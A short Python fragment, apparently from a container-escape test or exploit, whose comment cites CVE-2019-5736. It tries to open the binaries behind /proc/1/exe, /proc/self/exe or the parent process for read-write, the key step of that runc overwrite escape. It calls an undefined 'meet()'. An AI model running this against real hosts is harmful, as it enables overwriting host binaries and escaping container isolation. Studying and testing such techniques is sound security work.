# Opens the program of init for writing, as CVE-2019-5736 did with the runtime's own.
meet()
for path in ("/proc/1/exe", "/proc/self/exe", f"/proc/{os.getppid()}/exe"):
    with suppress(OSError):
        file = open(path, "r+b")
        break
meet()
